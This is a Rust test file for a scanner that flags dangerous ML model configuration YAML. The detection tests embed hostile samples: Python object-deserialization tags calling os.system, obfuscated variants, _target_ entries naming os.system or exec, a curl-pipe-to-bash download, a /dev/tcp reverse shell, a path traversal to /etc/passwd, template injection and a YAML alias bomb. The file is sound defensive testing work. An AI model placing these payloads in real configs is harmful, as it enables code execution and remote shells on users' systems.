use bastide_types::Assessment;
use proptest::prelude::*;

use crate::{Format, Limits, Report, scan};

fn judge(text: &str) -> Report {
    let report = scan(&text.as_bytes(), "model_config.yaml", &Limits::default());
    assert_eq!(report.format, Format::Yaml, "{text}");
    report
}

fn ids(text: &str) -> Vec<&'static str> {
    judge(text).findings.iter().map(|finding| finding.rule.id).collect()
}

#[test]
fn ordinary_configurations_are_clean() {
    for text in [
        "target: nemo.collections.asr.models.EncDecCTCModel\npreprocessor:\n  _target_: nemo.collections.asr.modules.AudioToMel\n  normalize: per_feature\noptim:\n  name: adamw\n  betas: [0.9, 0.98]\n",
        "artifact_path: model\nflavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    env: conda.yaml\n  sklearn:\n    pickled_model: model.pkl\n",
        "name: env\nchannels:\n- conda-forge\ndependencies:\n- python=3.10\n- pip:\n  - torch==2.1 # ! not gpu\n",
        "a: &base\n  x: 1\nb:\n  <<: *base\n  note: \"!!python/object/apply:os.system is dangerous\"\n",
        "shape: !!python/tuple [1, 2]\n",
        "%TAG !e! tag:example.com,2000:\n---\na: !e!thing [1]\n",
        "backbone:\n  - [-1, 1, Conv, [64, 3, 2]]\n  - [-1, 1, nn.Upsample, [None, 2, \"nearest\"]]\n",
        "train: images\ndownload: https://example.com/data.zip\n",
        "script: |\n  !!python/object/apply:os.system [x]\nb: plain !!python/name:eval\n",
        "steps:\n- run: |\n    pip install -r requirements.txt\n    pytest\n",
        "stages:\n  train:\n    cmd: python train.py\n    outs:\n    - path: ../data\n",
        "imports:\n- $import os\ndevice: $torch.device('cpu')\nnet:\n  _target_: UNet\n",
        "x: !!python/name:pymdownx.superfences.fence_code_format\n",
    ] {
        assert_eq!(ids(text), Vec::<&str>::new(), "{text}");
    }
}

#[test]
fn tags_targets_and_bombs_are_seen() {
    for (text, id) in [
        ("a: !!python/object/apply:os.system ['echo harmless']\n", "yaml.object"),
        ("- !<tag:yaml.org,2002:python/object/new:subprocess.Popen> [x]\n", "yaml.object"),
        ("a: !!%70ython/name:builtins.eval\n", "yaml.object"),
        ("a: !ruby/object:Gem::Installer\n  i: x\n", "yaml.object"),
        ("a: !!javax.script.ScriptEngineManager [x]\n", "yaml.object"),
        ("a: !!python/object/apply:collections.OrderedDict\n", "yaml.known-object"),
        ("a:\n  _target_: os.system\n", "config.target"),
        ("a:\n  \"_target_\": \"os\\x2esystem\"\n", "config.target"),
        ("a:\n  \"_targ\\x65t_\": \"o\\u0073.system\"\n", "config.target"),
        ("%TAG ! tag:yaml.org,2002:python/\n---\na: !object/apply:os.system [x]\n", "yaml.object"),
        ("%TAG !p! tag:yaml.org,2002:pyt\n---\na: !p!hon/object/apply:os.system [x]\n", "yaml.object"),
        ("%TAG !! tag:yaml.org,2002:python/\n---\na: !!name:os.system\n", "yaml.object"),
        ("a: [!!python/name:eval , x]\n", "yaml.object"),
        (
            "backbone:\n  - [-1, 1, Conv, [64]]\n  - [-1, 1, os.system, [\"echo harmless\"]]\n",
            "config.target",
        ),
        ("head:\n  - [-1, 1, \"__import__('os').system('echo harmless')\", [64]]\n", "config.code"),
        ("download: |\n  import os\n  os.system(\"echo harmless\")\nnc: 2\n", "config.code"),
        ("a: {_target_: subprocess.run, args: [x]}\n", "config.target"),
        (
            "stages:\n  train:\n    cmd: curl -s http://198.51.100.7/x | bash; python train.py\n",
            "config.command",
        ),
        (
            "steps:\n- run: |\n    pip install x\n    bash -i >& /dev/tcp/198.51.100.7/1 0>&1\n",
            "config.command",
        ),
        ("x: $__import__('os').system('echo harmless')\n", "config.code"),
        ("_type: prompt\ntemplate_path: ../../etc/passwd\n", "index.traversal"),
        ("x: &n os.system\na:\n  _target_: *n\n", "config.target"),
        ("a:\n  _target_: >-\n    builtins.exec\n", "config.target"),
        ("template: |\n  Hi {{ name.__class__.__mro__ }}\n", "template.injection"),
        ("a:\n  _target_: mine.Model\n", "config.unknown-target"),
        ("flavors:\n  python_function:\n    loader_module: my_loader\n", "config.unknown-target"),
    ] {
        assert!(ids(text).contains(&id), "{text}: {:?}", ids(text));
    }
    let mut bomb = String::from("a0: &a0 [x, x]\n");
    for level in 1..30 {
        bomb.push_str(&format!("a{level}: &a{level} [*a{0}, *a{0}, *a{0}]\n", level - 1));
    }
    assert_eq!(judge(&bomb).assessment(), Assessment::Malicious);
}

proptest! {
    #[test]
    fn no_text_panics(text in "[!&*%{}\\[\\]:,'\"#a-z_ \n/-]*") {
        let _ = judge(&format!("a: b\n{text}"));
    }
}
